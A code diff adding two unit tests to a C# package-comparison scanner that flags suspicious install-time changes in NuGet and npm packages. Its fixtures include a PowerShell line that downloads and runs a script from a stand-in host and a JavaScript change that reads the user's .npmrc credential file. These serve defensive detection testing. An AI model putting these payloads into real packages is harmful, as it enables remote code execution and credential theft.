@@ -109,4 +109,57 @@ public sealed class PackageDiffTests
         finding.Severity.ShouldBe(Severity.Critical);
         finding.Properties["ruleId"]!.GetValue<string>().ShouldBe("source-map/embedded-sources");
     }
+
+    [Fact]
+    public void Install_time_files_are_compared_by_content_and_only_unusual_changes_are_findings()
+    {
+        const string Nuspec = """<?xml version="1.0"?><package><metadata><id>Acme</id><version>1.0.0</version></metadata></package>""";
+        var old = ScanFixture.ScanBytes(TestArchive.Zip([
+            TestFile.Text("Acme.nuspec", Nuspec),
+            TestFile.Text("tools/install.ps1", "param($p)\nWrite-Host 'a'\n"),
+            TestFile.Text("tools/uninstall.ps1", "param($p)\n"),
+            TestFile.Text("build/Acme.targets", "<Project><Target Name='T'><Exec Command='dotnet gen' /></Target></Project>"),
+        ]), "acme.1.0.0.nupkg");
+        var @new = ScanFixture.ScanBytes(TestArchive.Zip([
+            TestFile.Text("Acme.nuspec", Nuspec.Replace("1.0.0", "1.0.1", StringComparison.Ordinal)),
+            TestFile.Text("tools/install.ps1", "param($p)\nWrite-Host 'b'\n"),
+            TestFile.Text("tools/init.ps1", "param($p)\niex (New-Object Net.WebClient).DownloadString('https://x.example/i.ps1')\n"),
+            TestFile.Text("build/Acme.targets", "<Project><Target Name='T'><Exec Command='dotnet gen --fast' /></Target></Project>"),
+        ]), "acme.1.0.1.nupkg");
+
+        var result = PackageDiff.Compare(old, @new);
+
+        result.Comparison!.Changes.InstallScripts.Select(c => (c.Kind, c.Path, c.Change)).ShouldBe([
+            ("msbuild", "build/Acme.targets", "changed"),
+            ("powershell", "tools/init.ps1", "added"),
+            ("powershell", "tools/install.ps1", "changed"),
+            ("powershell", "tools/uninstall.ps1", "removed"),
+        ], ignoreOrder: true);
+        var finding = result.Findings.Where(f => f.RuleId == DiffRules.NewInstallScript).ShouldHaveSingleItem();
+        finding.Severity.ShouldBe(Severity.High);
+        finding.Location.Path.ShouldBe("tools/init.ps1");
+        finding.Message.ShouldContain("(install/* behaviours of the new code: downloads-and-runs)");
+        result.Findings.Where(f => f.RuleId == DiffRules.NewFinding).Select(f => f.Properties["ruleId"]!.GetValue<string>())
+            .ShouldBe(["install/downloads-and-runs"]);
+    }
+
+    [Fact]
+    public void A_file_an_unchanged_npm_script_runs_is_compared_and_judged_by_what_it_now_does()
+    {
+        const string Manifest = """{"name":"acme","version":"1.0.0","scripts":{"postinstall":"node install.js"}}""";
+        var routine = Diff(
+            [TestFile.Text("package/package.json", Manifest), TestFile.Text("package/install.js", "require('./lib/get')('1.0.0');\n"), TestFile.Text("package/lib/get.js", "module.exports = v => v;\n")],
+            [TestFile.Text("package/package.json", Manifest), TestFile.Text("package/install.js", "require('./lib/get')('1.0.1');\n"), TestFile.Text("package/lib/get.js", "module.exports = v => v;\n")]);
+        var hijacked = Diff(
+            [TestFile.Text("package/package.json", Manifest), TestFile.Text("package/install.js", "require('./lib/get')('1.0.0');\n"), TestFile.Text("package/lib/get.js", "module.exports = v => v;\n")],
+            [TestFile.Text("package/package.json", Manifest), TestFile.Text("package/install.js", "require('./lib/get')('1.0.1');\n"), TestFile.Text("package/lib/get.js", "module.exports = v => require('fs').readFileSync(require('os').homedir() + '/.npmrc');\n")]);
+
+        var change = routine.Comparison!.Changes.InstallScripts.ShouldHaveSingleItem();
+        (change.Name, change.Kind, change.Path, change.Change, change.Fetches).ShouldBe(("postinstall", "npm-script-file", "install.js", "changed", false));
+        routine.Findings.ShouldBeEmpty();
+        var finding = hijacked.Findings.Single(f => f.RuleId == DiffRules.NewInstallScript);
+        finding.Severity.ShouldBe(Severity.High);
+        finding.Location.Path.ShouldBe("package/lib/get.js");
+        finding.Message.ShouldContain("changes lib/get.js, which its unchanged postinstall script runs");
+    }
 }
